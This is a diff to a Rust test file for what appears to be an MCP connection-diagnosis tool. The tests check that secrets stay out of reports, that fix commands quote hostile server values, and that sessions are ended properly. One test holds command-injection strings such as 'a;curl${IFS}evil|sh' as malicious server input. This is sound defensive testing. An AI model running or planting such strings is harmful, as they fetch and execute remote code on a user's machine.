@@ -151,6 +151,7 @@ fn response_that_is_no_answer_is_told_by_its_form() {
         (("nowhere", 3, "redirect", &["redirects to nowhere"]), response("302 x", "", "")),
         (("404", 3, "path", &["404", "none of /mcp"]), response("404 x", "", "")),
         (("405", 3, "path", &["takes no POST"]), response("405 x", "", "")),
+        (("501", 3, "path", &["takes no POST"]), typed("501 x", "text/html", "Unsupported method")),
         (("421", 6, "host", &["misdirected"]), response("421 x", "", "")),
         (("host", 6, "host", &["refuses the `Host`"]), typed("403 x", "text/plain", "Invalid Host header")),
         (
@@ -308,6 +309,86 @@ fn refused_token_is_told_by_its_cause() {
         let origin = serve_protected(challenge, RESOURCE, ISSUER);
         let report = assert_broken(row, &["--bearer", token, &format!("{origin}/mcp")], &[]);
         assert!(!report.to_string().contains(token), "{report}");
+    }
+}
+
+#[test]
+fn what_is_sent_is_in_no_text_although_the_server_sends_it_back() {
+    let token = "s3cr3ttoken-abcdef";
+    let key = format!("X-Key: {token}");
+    let challenge = format!("WWW-Authenticate: Bearer error_description=\"no {token}\"\r\n");
+    let basic = format!("WWW-Authenticate: Basic realm=\"{token}\"\r\n");
+    let page = format!("<title>{token}</title>");
+    let rows: [(Broken<'_>, String); 5] = [
+        (
+            ("status", 6, "host", &["does not let"]),
+            typed("403 x", "text/plain", &format!("no Bearer {token}")),
+        ),
+        (("page", 3, "content", &["a page"]), typed("200 OK", "text/html", &page)),
+        (("scheme", 6, "token", &["another credential"]), response("401 x", &basic, "")),
+        (("description", 6, "token", &["status 401"]), response("401 x", &challenge, "")),
+        (("protocol", 3, "http", &["another protocol"]), format!("no {token}\r\n")),
+    ];
+    for (row, text) in rows {
+        let origin = serve(move |_, _| text.clone());
+        for option in [["--bearer", token], ["--header", &key]] {
+            if option[0] == "--header" && row.0 == "description" {
+                continue; // Without a credential of OAuth the metadata comes first.
+            }
+            let report =
+                assert_broken(row, &[&BRIEF[..], &option, &[&format!("{origin}/mcp")]].concat(), &[]);
+            assert!(!report.to_string().contains("s3cr3t"), "{report}");
+        }
+    }
+}
+
+#[test]
+fn commands_of_a_fix_run_nothing_that_the_server_names() {
+    let evil = "a;curl${IFS}evil|sh";
+    let path = "a;$(evil)&sh";
+    let field = format!("WWW-Authenticate: Bearer error=\"insufficient_scope\", scope=\"{evil}\"\r\n");
+    let rows: [(Broken<'_>, &str, String); 2] = [
+        (("scope", 6, "scopes", &["insufficient_scope"]), evil, response("403 x", &field, "")),
+        (
+            ("moved", 3, "redirect", &["redirects"]),
+            path,
+            response("307 x", &format!("Location: /{path}\r\n"), ""),
+        ),
+    ];
+    for (row, evil, text) in rows {
+        let origin = serve(move |_, _| text.clone());
+        let report = assert_broken(row, &["--bearer", "narrow", &format!("{origin}/mcp")], &[]);
+        let fix = report["failure"]["fix"].as_str().expect("a fix");
+        let quoted = fix.split('\'').nth(1).unwrap_or_default();
+        assert!(quoted.contains(evil) && fix.matches(evil).count() == 1, "{fix}");
+    }
+}
+
+#[test]
+fn sessions_of_the_diagnosis_are_ended_with_the_credential_that_began_them() {
+    let ended = alloc::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let seen = alloc::sync::Arc::clone(&ended);
+    let origin = serve(move |line, fields| {
+        let path = line.split(' ').nth(1).unwrap_or_default().to_owned();
+        let begun = format!("Content-Type: text/plain\r\nMcp-Session-Id: of{}\r\n", path.replace('/', "-"));
+        match (line.split(' ').next(), &*path) {
+            (Some("DELETE"), _) => {
+                seen.lock().expect("unpoisoned").push(format!("{path} {fields}"));
+                response("200 OK", "", "")
+            }
+            // A run that fails after the session began, and one that is found at another path.
+            (Some("POST"), "/mcp") => response("200 OK", &begun, ANSWER),
+            _ => response("404 x", "", ""),
+        }
+    });
+    for (path, step) in [("/mcp", "content"), ("/wrong", "path")] {
+        let url = format!("{origin}{path}");
+        assert_broken(("session", 3, step, &[]), &["--bearer", "opaque-1", &url], &[]);
+        let ended = core::mem::take(&mut *ended.lock().expect("unpoisoned"));
+        assert_eq!(ended.len(), 1, "{path}: {ended:?}");
+        for part in ["/mcp ", "mcp-session-id: of-mcp", "authorization: bearer opaque-1"] {
+            assert!(ended[0].contains(part), "{path}: {ended:?}");
+        }
     }
 }
 
